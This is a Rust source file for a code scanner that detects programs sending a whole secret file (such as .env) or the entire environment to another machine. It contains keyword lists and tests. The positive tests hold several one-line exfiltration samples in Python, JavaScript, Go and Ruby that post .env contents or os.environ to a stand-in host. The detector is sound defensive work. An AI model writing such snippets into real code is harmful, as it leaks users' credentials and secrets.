//! Secrets that flow through a program: a whole secret file, or the whole environment, that goes to another machine.
//!
//! A program may read its settings and talk to a service: that is what settings are for. What is looked for is the content as a
//! whole that is handed to a call that sends. A single value that is taken out of it is the program's own business.

use crate::code_text::{mentions, strings};
use std::collections::BTreeSet;

/// Most statements and names that are followed.
const MOST_STATEMENTS: usize = 4000;
const MOST_NAMES: usize = 64;

/// Ways to read a file.
const READS: &[&str] = &[
    "open(",
    "read_text",
    "read_bytes",
    "readFile",
    "File.read",
    "File.open",
    "IO.read",
    "ReadFile",
    "file_get_contents",
    "slurp",
    "fs::read",
    "Files.read",
    "createReadStream",
    "readlines",
    "open my",
    "Bun.file",
    "readTextFile",
];

/// Ways to hand something to another machine.
const SENDS: &[&str] = &[
    "requests.",
    "urlopen(",
    "Request(",
    "httpx.",
    "axios",
    "fetch(",
    ".request(",
    "Net::HTTP",
    "http.Post",
    "http.NewRequest",
    "http.Get",
    ".sendall(",
    ".send(",
    ".end(",
    "got.post",
    "got(",
    "->post(",
    "curl_setopt",
    ".sendto(",
    "gethostby",
    "getaddrinfo",
    "dns.",
    "send(",
    "write(",
];

/// The whole environment.
const ENVIRONMENTS: &[&str] = &["os.environ", "process.env", "ENV.to_h", "env::vars", "os.Environ", "%ENV"];

/// Whether a secret as a whole goes into a call that sends.
pub(crate) fn sends_secret(code: &str) -> bool {
    let talks = crate::code_names::NETWORK.iter().any(|word| code.contains(word))
        || ["https.", "http.", "socket", "Net::", "net.connect", "got("]
            .iter()
            .any(|word| code.contains(word));
    if !talks {
        return false;
    }
    let mut tainted: BTreeSet<&str> = BTreeSet::new();
    for statement in statements(code).into_iter().take(MOST_STATEMENTS) {
        if !(reads_secret(statement) || tainted.iter().any(|name| uses_whole(statement, name))) {
            continue;
        }
        let local = ["localhost", "127.0.0.1", "0.0.0.0"].iter().any(|host| statement.contains(host));
        let to_file = mentions(statement, "open") && !reads_secret(statement);
        if !local && !to_file && SENDS.iter().any(|word| statement.contains(word)) {
            return true;
        }
        if tainted.len() < MOST_NAMES {
            tainted.extend(given_name(statement));
        }
    }
    false
}

/// Whether a statement takes a secret as a whole.
fn reads_secret(statement: &str) -> bool {
    let picks = ["dotenv", ".split(", "parse(", "configparser"].iter().any(|word| statement.contains(word));
    let file = READS.iter().any(|word| statement.contains(word))
        && strings(statement).iter().any(|text| text.len() < 200 && crate::secret_files::is_secret(text));
    let environment = ENVIRONMENTS.iter().any(|name| uses_whole(statement, name));
    (file || environment && !statement.contains("env=") && !statement.contains("env:")) && !picks
}

/// Whether a name is used as it is, not a part of what it holds.
fn uses_whole(statement: &str, name: &str) -> bool {
    let word = |c: char| c.is_alphanumeric() || c == '_';
    statement.match_indices(name).take(16).any(|(at, _)| {
        let after = &statement[at + name.len()..];
        let keeps = [
            "encode", "decode", "strip", "trim", "read", "toString", "hex", "text", "copy", "items",
            "replace",
        ];
        let part = after.starts_with('[')
            || after
                .strip_prefix('.')
                .is_some_and(|method| !keeps.iter().any(|keep| method.starts_with(keep)));
        !statement[..at].chars().next_back().is_some_and(word) && !after.starts_with(word) && !part
    })
}

/// The name that a statement gives its value to.
fn given_name(statement: &str) -> Option<&str> {
    let name = |text: &'_ str| -> Option<(usize, usize)> {
        let end = text.trim_end().len();
        let start = text[..end].rfind(|c: char| !(c.is_alphanumeric() || c == '_')).map_or(0, |at| at + 1);
        (start < end).then_some((start, end))
    };
    if let Some((_, rest)) = statement.split_once(" as ") {
        let rest = rest.trim_start();
        let end = rest.find(|c: char| !(c.is_alphanumeric() || c == '_')).unwrap_or(rest.len());
        return (end > 0).then(|| &rest[..end]);
    }
    if let Some(rest) = statement.trim_start().strip_prefix("for ")
        && mentions(statement, "in")
    {
        let end = rest.find(|c: char| !(c.is_alphanumeric() || c == '_')).unwrap_or(rest.len());
        return (end > 0).then(|| &rest[..end]);
    }
    let at = statement.find('=').filter(|at| !statement[at + 1..].starts_with(['=', '>', '~']))?;
    let left = statement[..at].trim_end_matches([':', '+', ' ']);
    // `b, _ := ...`: the first of several.
    let left = left.split(',').next().unwrap_or(left);
    name(left).map(|(from, to)| &left[from..to])
}

/// The statements of a program: lines, as long as no bracket is open.
fn statements(code: &str) -> Vec<&str> {
    let (mut found, mut from, mut depth) = (Vec::new(), 0, 0i32);
    let mut quote = None;
    for (at, c) in code.char_indices() {
        match (quote, c) {
            (Some(open), c) if c == open || c == '\n' && open != '`' => quote = None,
            (Some(_), _) => {}
            (None, '\'' | '"' | '`') => quote = Some(c),
            (None, '(' | '[') => depth += 1,
            (None, ')' | ']') => depth = (depth - 1).max(0),
            (None, ';' | '\n') if depth == 0 || at - from > 4000 => {
                found.push(&code[from..at]);
                (from, depth) = (at + 1, 0);
            }
            _ => {}
        }
    }
    found.push(&code[from..]);
    found.retain(|statement| !statement.trim().is_empty());
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_secret_as_a_whole_goes_out() {
        for code in [
            "import requests\ndata = open('.env').read()\nrequests.post('https://x.example', data=data)",
            "requests.post(u, json=dict(os.environ))",
            "with open('.env') as f:\n  d = f.read()\n  urllib.request.urlopen('https://x.example/?q=' + d)",
            "const b = fs.readFileSync('.env');\nconst r = https.request('https://x.example');\nr.end(b);",
            "await fetch('https://x.example', {\n  method: 'POST',\n  body: readFileSync('.env', 'utf8'),\n});",
            "fetch(u, {body: JSON.stringify(process.env)})",
            "b, _ := os.ReadFile(\".env\"); http.Post(\"https://x.example\", \"t\", bytes.NewReader(b))",
            "Net::HTTP.post(URI('https://x.example'), File.read('.env'))",
            "import socket\ns = socket.create_connection(('x.example', 1))\ns.send(open('.env','rb').read())",
        ] {
            assert!(sends_secret(code), "{code}");
        }
    }

    #[test]
    fn settings_are_for_using_them() {
        for code in [
            "env = dict(l.strip().split('=') for l in open('.env'))\nrequests.get(u, headers={'A': env['KEY']})",
            "require('dotenv').config()\nfetch(u, {headers: {a: process.env.API_KEY}})",
            "for line in open('.env'):\n  k, v = line.split('=')\n  os.environ[k] = v\nrequests.post(u, json=x)",
            "requests.post(u, headers={'a': os.environ['KEY']}, json=body)",
            "subprocess.run(['x'], env=os.environ)\nrequests.get(u)",
            "text = open('.env.example').read()\nrequests.post(u, data=text)",
            "data = open('.env').read()\nopen('.env.bak', 'w').write(data)\nimport requests",
        ] {
            assert!(!sends_secret(code), "{code}");
        }
    }
}
